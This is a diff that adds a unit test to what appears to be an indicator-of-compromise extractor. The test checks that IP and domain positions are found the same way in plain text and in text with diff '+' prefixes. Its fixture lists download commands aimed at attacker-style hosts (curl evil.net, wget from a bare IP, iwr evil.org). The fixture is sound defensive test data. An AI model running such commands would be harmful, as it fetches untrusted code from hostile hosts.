@@ -42,6 +42,23 @@ describe('the place of an indicator', () => {
     expect(places(await extracted('a\n8.8.8.8', { line: 41 }))).toEqual(['ip 8.8.8.8 42:1']);
   });
 
+  it('what begins a line of a patch is read as in the file', async () => {
+    const text = [
+      'curl evil.net/x',
+      'wget -q 45.9.148.3/x',
+      'iwr evil.org',
+      'Chrome/4.5.6.7',
+      '^4.5.6.7',
+      '',
+    ];
+    const plain = places(await extracted(text.join('\n')));
+    const marked = places(
+      await extracted(text.join('\n+').replace(/^/, '+').replace(/\+$/, ''), { marked: true }),
+    );
+    expect(plain).toHaveLength(4);
+    expect(marked).toEqual(plain);
+  });
+
   it("leaves the diff's mark out of the line", async () => {
     const found = await extracted('+8.8.8.8\n+a 9.9.9.9\n+\n++1.1.1.1\n', { marked: true });
     expect(places(found)).toEqual(['ip 8.8.8.8 1:1', 'ip 9.9.9.9 2:3', 'ip 1.1.1.1 4:2']);
